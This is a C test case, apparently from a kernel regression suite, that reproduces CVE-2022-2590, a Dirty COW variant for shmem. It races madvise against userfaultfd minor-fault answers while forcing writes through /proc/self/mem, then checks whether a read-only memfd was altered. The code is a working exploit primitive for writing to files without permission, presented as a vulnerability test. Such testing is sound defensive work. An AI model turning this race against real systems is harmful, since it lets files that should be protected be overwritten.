// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * dirty-cow-shmem: the same for shmem, with userfaultfd in the middle
 *
 * Story    To know that COW is done a forced write looked for a dirty PTE. A
 *          private mapping of shmem whose minor faults userfaultfd answers
 *          (UFFDIO_CONTINUE) got the file's own page, read-only and dirty. With
 *          the private copy thrown away at the right time, the forced write
 *          takes that page for the copy.
 * Seen as  A memfd or tmpfs file that changes although nobody may write to it.
 * Fixed    CVE-2022-2590: v6.0, 5535be309971 (no more guessing by the dirty
 *          bit). Broken since v5.16.
 * Steps    1 one thread drops the private copy, one answers minor faults, all
 *          the time  2 the third writes through /proc/self/mem  3 the file holds
 *          what it held.
 * Notes    A race, bounded in time. No kernel at hand is from 5.16 to 5.19: seen
 *          to fail under --inject only.
 */
#include "case.h"
#include "fail.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGES  1 /* the window is a page's */
#define WRITES 200

static atomic_bool stop;
static atomic_uint dropped, continued;
static int uffd;

enum { WRITTEN, DROPPED, CONTINUED, CHECKED };

static const struct case_info info = {
	.name = "dirty-cow-shmem",
	.summary = "forced writes to a private shmem mapping whose minor faults are answered",
	.tags = "shmem uffd gup isolation security race",
	.oracles = CASE_ISOLATION,
	.refs = "linux-git:5535be309971",
	.cve = "CVE-2022-2590",
	.broken_since = "5.16",
	.fixed_in = "6.0",
	.lever = "race",
	.seconds = 2,
	.rounds = 1000000,
	.counters = { { "written", true },
		      { "dropped", true },
		      { "continued", true },
		      { "checked", true } },
};

/* A userfaultfd for minor faults of shmem (5.14), on the private mapping. */
static bool watch_minor_faults(struct map *map)
{
	struct uffdio_api api = { .api = UFFD_API, .features = UFFD_FEATURE_MINOR_SHMEM };
	struct uffdio_register reg = {
		.range = { .start = (uintptr_t)map->at, .len = map->len },
		.mode = UFFDIO_REGISTER_MODE_MINOR,
	};

	uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	return uffd >= 0 && !ioctl(uffd, UFFDIO_API, &api) && !ioctl(uffd, UFFDIO_REGISTER, &reg);
}

static void *dropper(void *data)
{
	struct map *map = data;

	while (!atomic_load(&stop)) {
		madvise(map->at, map->len, MADV_DONTNEED); /* the private copy goes */
		atomic_fetch_add(&dropped, 1);
	}
	return NULL;
}

static void *continuer(void *data)
{
	struct map *map = data;
	struct uffdio_continue go;

	while (!atomic_load(&stop)) {
		go = (struct uffdio_continue){
			.range = { .start = (uintptr_t)map->at, .len = map->len },
		};
		if (!ioctl(uffd, UFFDIO_CONTINUE, &go)) /* the file's page, read-only */
			atomic_fetch_add(&continued, 1);
		else /* mapped already; but who faulted must not sleep on */
			ioctl(uffd, UFFDIO_WAKE, &go.range);
	}
	return NULL;
}

static bool file_is_unchanged(struct case_ctx *c, struct map *map)
{
	static char copy[PAGES * STAMP_PAGE];

	if (pread(map->fd, copy, map->len, 0) != (ssize_t)map->len)
		fail("reading the file");
	case_count(c, CHECKED, map->pages);
	return case_check_copy(c, map, copy, map->len, 1, STAMP_CPU, "the file");
}

static enum verdict round_of_writes(struct case_ctx *c, struct map *map, int mem, const char *later)
{
	for (int i = 0; i < WRITES; i++)
		if (pwrite(mem, later, map->len, (uintptr_t)map->at) == (ssize_t)map->len)
			case_count(c, WRITTEN, map->pages);
	case_count(c, DROPPED, atomic_exchange(&dropped, 0));
	case_count(c, CONTINUED, atomic_exchange(&continued, 0));
	return file_is_unchanged(c, map) ? PASS : CORRUPT;
}

static enum verdict race(struct case_ctx *c, struct map *map)
{
	int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	char *later = aligned_alloc(STAMP_PAGE, map->len);
	enum verdict verdict = PASS;
	pthread_t threads[2];

	stamp_fill(&map->stamp, later, 0, map->len, 2, STAMP_CPU);
	if (mem < 0)
		fail("/proc/self/mem");
	if (pthread_create(&threads[0], NULL, continuer, map) ||
	    (case_disturbs(c) && pthread_create(&threads[1], NULL, dropper, map)))
		fail("the threads");
	while (verdict == PASS && case_round(c))
		verdict = round_of_writes(c, map, mem, later);
	atomic_store(&stop, true);
	pthread_join(threads[0], NULL);
	if (case_disturbs(c))
		pthread_join(threads[1], NULL);
	free(later);
	close(mem);
	return verdict;
}

static enum verdict run(struct case_ctx *c)
{
	struct map map;

	case_on_all_cpus(); /* a race wants more than one CPU */
	if (!case_map(c, &map, MAP_KIND_MEMFD, PAGES, 0))
		return INCONCLUSIVE;
	if (mmap(map.at, map.len, PROT_READ, MAP_PRIVATE | MAP_FIXED, map.fd, 0) != map.at)
		fail("the private read-only mapping");
	if (!watch_minor_faults(&map))
		return case_skip(c,
				 "userfaultfd minor faults of shmem: %s; use a kernel from 5.14 "
				 "on, as root",
				 strerror(errno));
	return race(c, &map);
}

int main(int argc, char **argv)
{
	return case_main(argc, argv, &info, run);
}
